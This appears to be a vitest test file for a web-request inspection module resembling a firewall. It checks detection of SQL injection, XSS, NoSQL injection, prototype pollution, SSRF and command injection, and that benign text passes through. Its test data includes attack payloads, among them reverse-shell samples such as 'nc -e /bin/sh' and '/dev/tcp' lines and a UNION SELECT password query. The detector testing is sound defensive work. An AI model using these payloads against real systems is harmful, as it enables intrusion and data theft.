import { describe, expect, it } from 'vitest';
import { compileInspectOptions, inspectCompiled, inspectRequest } from './inspect';

const SQLI = "1' UNION SELECT password FROM users--";

describe('inspectRequest', () => {
  it.each([
    ['path segment', { path: `/users/${encodeURIComponent(SQLI)}` }, 'path'],
    ['query value', { path: '/s', query: `q=${encodeURIComponent(SQLI)}` }, 'query.q'],
    ['query in the path', { path: `/s?id=${encodeURIComponent(SQLI)}` }, 'query.id'],
    ['parsed query object', { query: { filter: { name: SQLI } } }, 'query.filter.name'],
    ['nested body value', { body: { user: { profile: { bio: SQLI } } } }, 'body.user.profile.bio'],
    ['array element', { body: { items: [{ note: 'ok' }, { note: SQLI }] } }, 'body.items.1.note'],
    ['text body', { body: SQLI }, 'body'],
    ['user agent', { headers: { 'user-agent': SQLI } }, 'headers.user-agent'],
    ['cookie', { headers: { cookie: `a=1; prefs=${encodeURIComponent(SQLI)}` } }, 'cookies.prefs'],
  ])('finds SQL injection in a %s', (_name, request, location) => {
    const result = inspectRequest(request);
    expect(result.threat).toBe(true);
    expect(result.findings).toEqual([
      expect.objectContaining({ category: 'sqli', location, severity: 'critical', score: 70 }),
    ]);
  });

  it('inspects keys as well as values', () => {
    expect(inspectRequest({ query: 'user%5B%24ne%5D=x' }).findings[0]).toMatchObject({
      category: 'nosql_injection',
      location: 'query.user[$ne]:key',
    });
    expect(inspectRequest({ body: { '<img src=x onerror=alert(1)>': 1 } }).findings[0]?.category).toBe('xss');
    const polluted = JSON.parse('{"a": {"__proto__": {"admin": true}}}') as object;
    expect(inspectRequest({ body: polluted }).findings[0]).toMatchObject({
      category: 'prototype_pollution',
      location: 'body.a.__proto__:key',
    });
    expect(inspectRequest({ body: { constructor: { prototype: { admin: true } } } }).findings[0]).toMatchObject({
      location: 'body.constructor.prototype:key',
    });
  });

  it('inspects custom x- headers unless told not to, and no other unlisted header', () => {
    expect(inspectRequest({ headers: { 'x-tenant': SQLI } }).findings[0]).toMatchObject({
      category: 'sqli',
      location: 'headers.x-tenant',
    });
    expect(inspectRequest({ headers: { 'x-tenant': SQLI } }, { customHeaders: false }).findings).toEqual([]);
    expect(inspectRequest({ headers: { accept: SQLI } }).findings).toEqual([]);
    expect(inspectRequest({ headers: { accept: SQLI } }, { headers: ['accept'] }).threat).toBe(true);
  });

  it.each([
    ['X-Forwarded-Host to the metadata service', { 'x-forwarded-host': '169.254.169.254' }, 'ssrf'],
    [
      'a metadata URL in a custom header',
      { 'x-callback': 'http://metadata.google.internal/computeMetadata/v1/' },
      'ssrf',
    ],
    [
      'a j: JSON cookie with a NoSQL operator',
      { cookie: `session=j%3A${encodeURIComponent('{"$ne":null}')}` },
      'nosql_injection',
    ],
    [
      'a j: JSON cookie polluting the prototype',
      { cookie: `prefs=j:${encodeURIComponent('{"__proto__":{"admin":true}}')}` },
      'prototype_pollution',
    ],
    ['a NoSQL operator in a custom header', { 'x-filter': '{"$where": "sleep(5000)"}' }, 'nosql_injection'],
  ])('finds %s', (_name, headers, category) => {
    const result = inspectRequest({ headers });
    expect(result.threat).toBe(true);
    expect(result.findings[0]?.category).toBe(category);
  });

  it('lets the internal names proxies and browsers put in headers through', () => {
    for (const headers of [
      { 'x-forwarded-host': 'localhost:3000' },
      { 'x-forwarded-for': '10.0.0.7, 192.168.1.20' },
      { referer: 'http://127.0.0.1:5173/settings' },
      { 'x-forwarded-host': 'api.internal' },
    ]) {
      expect(inspectRequest({ headers }).findings, JSON.stringify(headers)).toEqual([]);
    }
  });

  it('decodes base64 values that decode to text, and leaves tokens and ids alone', () => {
    const encoded = Buffer.from("1' UNION SELECT password FROM users--").toString('base64');
    expect(inspectRequest({ query: `data=${encodeURIComponent(encoded)}` }).findings[0]).toMatchObject({
      category: 'sqli',
      location: 'query.data',
    });
    const url = Buffer.from('http://169.254.169.254/latest/meta-data/').toString('base64url');
    expect(inspectRequest({ body: { payload: url } }).threat).toBe(true);
    for (const benign of [
      'dGhlIHF1aWNrIGJyb3duIGZveCBqdW1wcyBvdmVyIHRoZSBsYXp5IGRvZw==', // prose
      'q83vEjRWeJAaW1x9Kx3mPw', // random bytes
      '3f786850e387550fdab836ed7e6dc881de23001b', // a hex digest
      'AbCdEfGhIjKlMnOpQrStUvWx', // letters
    ]) {
      expect(inspectRequest({ body: { token: benign } }).findings, benign).toEqual([]);
    }
  });

  it('finds constructor.prototype inside JSON carried by a query value', () => {
    const filter = JSON.stringify({ constructor: { prototype: { isAdmin: true } } });
    expect(inspectRequest({ query: `filter=${encodeURIComponent(filter)}` }).findings[0]).toMatchObject({
      category: 'prototype_pollution',
      location: 'query.filter',
    });
    expect(inspectRequest({ query: `q=${encodeURIComponent('{"constructor":"Ferrari"}')}` }).findings).toEqual([]);
  });

  it.each([
    ['double URL encoding', '%253Cscript%253Ealert(1)%253C%252Fscript%253E'],
    ['HTML entities', '&lt;img src=x onerror=alert(1)&gt;'],
    ['numeric entities without semicolons', '&#60img src=x onerror=alert(1)&#62'],
    ['fullwidth characters', '＜script＞alert(1)＜/script＞'],
    ['JavaScript escapes', '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e'],
    ['mixed case', '<ScRiPt>alert(1)</sCrIpT>'],
    ['NUL bytes', '<scr\u0000ipt>alert(1)</script>'],
  ])('decodes %s before matching', (_name, payload) => {
    expect(inspectRequest({ body: { v: payload } }).findings[0]?.category).toBe('xss');
  });

  it('stops decoding after three rounds (bounded work)', () => {
    let payload = '<script>alert(1)</script>';
    for (let i = 0; i < 5; i++) payload = encodeURIComponent(payload);
    expect(inspectRequest({ body: { v: payload } }).threat).toBe(false);
  });

  it.each([
    "Conan O'Brien",
    'Please update my card details before the next billing cycle.',
    "Drop me a line when you're back; select the union rate -- thanks",
    'The union select committee meets on Friday.',
    'Price: $19.99 (was $29.99); save $$$',
    'See report.v2.final.pdf and archive.2024.tar.gz',
    'wait... what?',
    'a < b and c > d, I <3 this',
    '<p>Hello <b>world</b> <a href="https://example.com">link</a></p>',
    'JavaScript: The Good Parts (2008)',
    'Tom & Jerry; cat lovers welcome',
    'Hello {{name}}, your total is ${amount}',
    'Meeting notes:\nLocation: Room 5\nAttendees: Ann, Bob',
    'https://api.github.com/repos/nestjs/nest',
    '| id | name |\n|----|------|\n| 1  | Ann  |',
  ])('lets %j pass', (text) => {
    expect(inspectRequest({ query: `q=${encodeURIComponent(text.replaceAll('\n', ' '))}`, body: { text } })).toEqual({
      score: 0,
      threat: false,
      findings: [],
      truncated: false,
    });
  });

  it('lets JSON Schema keywords and GraphQL variables pass, not Mongo operators', () => {
    const schema = {
      $schema: 'https://json-schema.org/draft/2020-12/schema',
      $id: 'x',
      properties: { a: { $ref: '#/$defs/a' } },
    };
    expect(inspectRequest({ body: schema }).findings).toEqual([]);
    expect(inspectRequest({ body: { query: 'query Q($id: ID!) { user(id: $id) { name } }' } }).findings).toEqual([]);
    expect(inspectRequest({ body: { password: { $gt: '' } } }).findings[0]?.category).toBe('nosql_injection');
  });

  it('scores like the CRS: one critical finding reaches the threshold, categories add up, repeats do not', () => {
    const one = inspectRequest({ body: { a: SQLI } });
    expect(one).toMatchObject({ score: 70, threat: true });
    const same = inspectRequest({ body: { a: SQLI, b: SQLI, c: SQLI } });
    expect(same.findings).toHaveLength(3);
    expect(same.score).toBe(70);
    const two = inspectRequest({ body: { a: SQLI, b: '<script>alert(1)</script>' } });
    expect(two.score).toBe(140);
    expect(inspectRequest({ body: { a: SQLI } }, { threshold: 100 }).threat).toBe(false);
    expect(inspectRequest({ body: { a: SQLI } }, { scores: { critical: 40 } }).score).toBe(40);
  });

  it('skips ignored locations, with * for one segment and everything under a prefix', () => {
    const body = { codeSnippet: '<script>x()</script>', files: [{ content: SQLI, name: 'a' }], title: 'ok' };
    expect(inspectRequest({ body }, { ignore: ['body.codeSnippet', 'body.files.*.content'] }).findings).toEqual([]);
    expect(inspectRequest({ body }, { ignore: ['body.files'] }).findings.map((f) => f.location)).toEqual([
      'body.codeSnippet',
    ]);
    expect(inspectRequest({ body }, { ignore: ['body.title'] }).findings).toHaveLength(2);
  });

  it('keeps samples short, free of control characters, and redacted under secret-looking names', () => {
    const long = `${SQLI}\r\n${'x'.repeat(200)}`;
    const [finding] = inspectRequest({ body: { comment: long } }).findings;
    expect(finding?.sample.length).toBeLessThanOrEqual(65);
    expect(finding?.sample).not.toMatch(/[\r\n]/);
    expect(inspectRequest({ body: { password: SQLI } }).findings[0]?.sample).toBe('[REDACTED]');
    expect(inspectRequest({ body: { apiKey: SQLI } }).findings[0]?.sample).toBe('[REDACTED]');
  });

  it('bounds the walk in depth and says so', () => {
    let deep: unknown = SQLI;
    for (let i = 0; i < 40; i++) deep = { d: deep };
    const result = inspectRequest({ body: deep });
    expect(result.truncated).toBe(true);
    expect(inspectRequest({ body: deep }, { maxDepth: 64 }).threat).toBe(true);
    const many = { items: Array.from({ length: 50 }, () => 'x') };
    expect(inspectRequest({ body: many }, { maxStrings: 10 }).truncated).toBe(true);
  });

  it('reports a payload hidden past the walk bounds as an inspection_limit finding that reaches the threshold', () => {
    // 33 levels deep: one past the default maxDepth of 32.
    let deep: unknown = SQLI;
    for (let i = 0; i < 33; i++) deep = { d: deep };
    const byDepth = inspectRequest({ body: deep });
    expect(byDepth).toMatchObject({ truncated: true, threat: true, score: 70 });
    expect(byDepth.findings).toEqual([
      expect.objectContaining({
        category: 'inspection_limit',
        rule: 'inspection_limit.max_depth',
        severity: 'critical',
      }),
    ]);
    expect(byDepth.findings[0]?.location).toBe(`body${'.d'.repeat(32)}`);
    // 10 000 filler strings before the payload: the payload is the 10 001st string.
    const filler = { items: Array.from({ length: 10_000 }, (_, i) => `item ${i}`), comment: SQLI };
    const byCount = inspectRequest({ body: filler });
    expect(byCount).toMatchObject({ truncated: true, threat: true });
    expect(byCount.findings.map((f) => f.rule)).toEqual(['inspection_limit.max_strings']);
    // Policy: a lower severity only adds to the score; 'ignore' reports nothing.
    expect(inspectRequest({ body: filler }, { beyondLimits: 'medium' })).toMatchObject({ threat: false, score: 30 });
    expect(inspectRequest({ body: filler }, { beyondLimits: 'ignore' })).toMatchObject({
      threat: false,
      findings: [],
      truncated: true,
    });
    // Within the bounds, nothing is reported.
    expect(inspectRequest({ body: { items: ['a', 'b'] } }).findings).toEqual([]);
  });

  it('adds paranoia-level-2 rules only when asked', () => {
    const request = { query: 'next=%2Fhome%0d%0a' };
    expect(inspectRequest(request).findings).toEqual([]);
    expect(inspectRequest(request, { paranoia: 2 }).findings[0]).toMatchObject({
      rule: 'crlf_injection.line_break',
      severity: 'medium',
      score: 30,
    });
    expect(inspectRequest(request, { paranoia: 2 }).threat).toBe(false);
  });

  it('gives the same findings for a repeated header or query string (memoised) as the first time', () => {
    const attack = {
      path: "/search?q=1'%20OR%201=1--&page=2",
      headers: { 'user-agent': '<script>alert(1)</script>', cookie: 'a=1; b=$(id)' },
    };
    const first = inspectRequest(attack);
    const second = inspectRequest(attack);
    expect(first.findings.map((f) => f.location).sort()).toEqual(['cookies.b', 'headers.user-agent', 'query.q']);
    expect(second).toEqual(first);
    // A different value under the same name is inspected on its own.
    expect(inspectRequest({ headers: { 'user-agent': 'curl/8.0' } }).findings).toEqual([]);
    expect(inspectRequest({ path: '/search?q=shoes&page=2' }).findings).toEqual([]);
  });

  it('keeps its verdicts exact while a flood of fresh strings turns the memo over', () => {
    const body = { q: "1' OR 1=1--", note: 'blue running shoes', html: '<img src=x onerror=alert(1)>' };
    const first = inspectRequest({ body });
    expect(first.findings.map((f) => f.location).sort()).toEqual(['body.html', 'body.q']);
    // 20 000 distinct strings: several generations of the bounded memo come and go.
    for (let i = 0; i < 20_000; i += 50) {
      inspectRequest({ body: { values: Array.from({ length: 50 }, (_, j) => `fresh value ${i + j}`) } });
      expect(inspectRequest({ body })).toEqual(first);
    }
  });

  it('inspects a changed query pair beside memoised ones, and counts memoised pairs against maxStrings', () => {
    expect(inspectRequest({ path: '/search?page=2&q=shoes' }).findings).toEqual([]);
    expect(inspectRequest({ path: '/search?page=2&q=%3Cscript%3Ealert(1)%3C/script%3E' }).findings).toEqual([
      expect.objectContaining({ category: 'xss', location: 'query.q' }),
    ]);
    const options = compileInspectOptions({ maxStrings: 3 });
    expect(inspectCompiled({ path: '/?a=1' }, options).truncated).toBe(false);
    // Four strings, two of them from the memo: still past the bound.
    expect(inspectCompiled({ path: '/?a=1&b=2' }, options).truncated).toBe(true);
    expect(inspectCompiled({ path: '/?a=1&b=2' }, options).truncated).toBe(true);
  });

  it('recognises python after a separator and a JS label after javascript:', () => {
    expect(inspectRequest({ body: { host: '127.0.0.1; python3 -c "import os"' } }).findings[0]?.category).toBe(
      'command_injection',
    );
    expect(inspectRequest({ body: { host: '8.8.8.8 && python -V' } }).threat).toBe(true);
    expect(inspectRequest({ body: { link: 'javascript:foo:alert(1)' } }).findings[0]?.category).toBe('xss');
    expect(inspectRequest({ body: { title: 'JavaScript: The Good Parts' } }).findings).toEqual([]);
  });

  it.each([
    ['1-@@version', 'sqli'],
    ['select@@version', 'sqli'],
    ['1 into 1', 'sqli'],
    ['nc -e /bin/sh 10.0.0.1 4444', 'command_injection'],
    ['/dev/tcp/10.0.0.1/4444', 'command_injection'],
    ['javascript:foo:bar', 'xss'],
    ['__PROTO__.admin', 'prototype_pollution'],
  ])('reads %s (letters, digits and [ _.,:@/-] only) with every detector that can match it', (value, category) => {
    // Such strings take the plain fast path, which once skipped SQL without a space, command,
    // XSS and upper-case `PROTO`: the detector matched, the request passed.
    expect(inspectRequest({ body: { value } }).findings[0]?.category).toBe(category);
  });

  it('never lets a memoised verdict from a browser-destination key pass the same URL under a fetched-URL key', () => {
    // Loopback is legitimate under redirect_uri (RFC 8252), SSRF under webhook_url: a verdict
    // memoised for one must not answer for the other, plain or with a query string.
    for (const url of ['http://127.0.0.1:8080/hook', 'http://127.0.0.1:8080/hook?x=1', 'http://localhost:9000/']) {
      expect(inspectRequest({ body: { redirect_uri: url } }).threat).toBe(false);
      expect(inspectRequest({ body: { webhook_url: url } }).findings[0]?.category).toBe('ssrf');
      expect(inspectRequest({ body: { redirect_uri: url } }).threat).toBe(false);
      expect(inspectRequest({ path: `/hooks?callback=${encodeURIComponent(url)}` }).threat).toBe(true);
    }
  });
});
